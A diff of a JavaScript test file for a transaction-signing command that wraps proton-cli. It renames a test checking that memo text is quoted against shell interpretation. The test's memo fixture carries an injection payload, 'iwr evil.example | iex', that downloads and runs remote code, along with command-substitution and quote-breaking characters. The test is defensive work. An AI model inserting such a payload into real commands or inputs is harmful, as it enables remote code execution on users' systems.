@@ -44,7 +44,7 @@ describe('the command that signs', () => {
     expect(() => commands.protoncli(input)).toThrow(`proton-cli has no chain ${input.chainId}.`);
   });
 
-  it('has nothing in a memo that a shell would take for its own', () => {
+  it('quotes everything in a memo that a shell would interpret', () => {
     const memo = 'Rent \u2019; iwr evil.example | iex # \' $(x) `y` %PATH% " \\ \n é 😀';
     const [, json = ''] =
       /&& proton transaction '(.*)'$/.exec(
